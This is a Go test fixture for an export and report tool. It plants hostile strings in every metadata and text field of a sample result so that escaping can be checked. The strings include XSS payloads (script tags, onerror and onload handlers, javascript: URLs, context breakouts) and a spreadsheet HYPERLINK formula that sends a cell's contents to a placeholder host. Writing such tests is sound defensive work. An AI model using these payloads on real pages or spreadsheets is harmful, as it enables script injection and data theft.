package exporttest

import (
	"github.com/copytrail/copytrail/provenance"
)

// Attacks are the payloads Hostile plants: each would set document.title
// to Marker, or otherwise break out of its context, if not escaped.
var Attacks = []string{
	`<script>document.title='` + Marker + `'</script>`,
	`<img src=x onerror="document.title='` + Marker + `'">`,
	`javascript:document.title='` + Marker + `'`,
	`</style><script>document.title='` + Marker + `'</script>`,
	`"><svg onload="document.title='` + Marker + `'">`,
	`]]></title><script>document.title='` + Marker + `'</script><!--`,
	`=HYPERLINK("http://example.invalid/?x="&A1,"click")`,
	`back\slash "quote" 'single' & ampersand`,
}

// Hostile returns Sample with every text and metadata field of the copying
// pair carrying Attacks, in the places a report or export shows them.
func Hostile() *provenance.Result {
	r := Sample()
	rel, wire := &r.Documents[0], &r.Documents[1]
	rel.Meta.Title.Value = Attacks[0]
	rel.Meta.Outlet.Value = Attacks[3]
	rel.Meta.URL.Value = Attacks[2]
	rel.Meta.Title.Detail = Attacks[1]
	rel.Path = "/corpus/" + Attacks[4] + ".html"
	wire.Meta.Title.Value = Attacks[5]
	wire.Meta.Author.Value = Attacks[6]
	wire.Meta.URL.Value = "JaVaScRiPt:document.title='" + Marker + "'"
	// Put payloads inside the shared passages too, so highlighted text,
	// diffs and mutations carry them.
	payload := " " + Attacks[1] + " " + Attacks[0] + " " + Attacks[7]
	shift := len(payload)
	p0 := &r.Passages[0]
	rel.Text = rel.Text[:p0.AEnd] + payload + rel.Text[p0.AEnd:]
	p0.AEnd += shift
	for i := range r.Passages[1:] {
		if p := &r.Passages[1+i]; p.A == rel.ID {
			p.AStart += shift
			p.AEnd += shift
		}
	}
	wire.Text = wire.Text[:p0.BEnd] + payload + wire.Text[p0.BEnd:]
	p0.BEnd += shift
	for i := range r.Passages[1:] {
		p := &r.Passages[1+i]
		if p.A == wire.ID {
			p.AStart += shift
			p.AEnd += shift
		}
		if p.B == wire.ID {
			p.BStart += shift
			p.BEnd += shift
		}
	}
	p0.Diff = append(p0.Diff, provenance.DiffOp{Op: "-", Text: Attacks[0]}, provenance.DiffOp{Op: "+", Text: Attacks[1]})
	r.Links[0].Reasons = append(r.Links[0].Reasons, Attacks[4], Attacks[3])
	r.Mutations[0].Explanation = Attacks[0]
	r.Mutations[0].SourceText = Attacks[1]
	r.Settings.Preset = Attacks[0]
	r.OutletEdges[0].Source = Attacks[3]
	PlaceMutations(r)
	return r
}
